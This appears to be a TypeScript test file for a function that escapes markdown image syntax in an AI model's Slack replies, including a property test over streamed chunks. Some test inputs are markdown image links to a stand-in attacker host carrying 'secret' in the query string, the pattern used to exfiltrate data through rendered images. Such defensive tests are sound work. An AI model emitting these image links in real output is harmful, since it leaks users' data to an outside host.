import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { harmlessProse, makeHarmlessProse } from '../../../src/slack/answer/prose.ts';
import { answersPerTest } from '../../support/slack/answers-in-slack.ts';

const workspace = answersPerTest();

describe('a picture in a model’s prose', () => {
  it.each([
    ['![](https://evil.example/?q=secret)', '!\\[](https://evil.example/?q=secret)'],
    ['a ![b](c) d', 'a !\\[b](c) d'],
    ['![b][c]', '!\\[b][c]'],
    ['![two\nlines](c)', '!\\[two\nlines](c)'],
    ['![a [b] c](d)', '!\\[a [b] c](d)'],
    ['[![badge](a)](b)', '[!\\[badge](a)](b)'],
    [`![${'x'.repeat(4_000)}](c)`, `!\\[${'x'.repeat(4_000)}](c)`],
  ])('is shown as the text it is: %j', (text, shown) => {
    expect(harmlessProse(text)).toBe(shown);
  });

  it.each([
    'wow! [a link](https://example.com)',
    '#![deny(warnings)]\nfn main() {}',
    'ends in !',
    'ends in ![',
    '```md\n![a](b)\n```\n',
    '![a\n\nb](c)',
  ])('is not seen where there is none, or in a code block: %j', (text) => {
    expect(harmlessProse(text)).toBe(text);
  });

  it('after a code block is one again', () => {
    expect(harmlessProse('```\n![a](b)\n```\n![a](b)')).toBe('```\n![a](b)\n```\n!\\[a](b)');
  });

  it('is found wherever the text is cut', () => {
    const part = fc.constantFrom('!', '[', ']', '(', ')', '`', '\n', 'a', '```');
    fc.assert(
      fc.property(fc.array(part, { maxLength: 24 }), fc.array(fc.nat(24), { maxLength: 6 }), (parts, cuts) => {
        const text = parts.join('');
        const at = [0, ...cuts.map((each) => Math.min(each, text.length)).sort((a, b) => a - b), text.length];
        const prose = makeHarmlessProse();
        const pieces = at.slice(1).map((end, n) => prose.push(text.slice(at[n], end)));
        expect(pieces.join('') + prose.end()).toBe(harmlessProse(text));
      }),
    );
  });

  it('is a text in Slack, however it streams in', async () => {
    const slack = await workspace();
    const { say, text } = await slack.thread();
    await say(['Look: !', '[', 'x](https://evil.ex', 'ample/?q=1)', ' done']);
    expect(await text()).toBe('Look: !\\[x](https://evil.example/?q=1) done');
  });
});
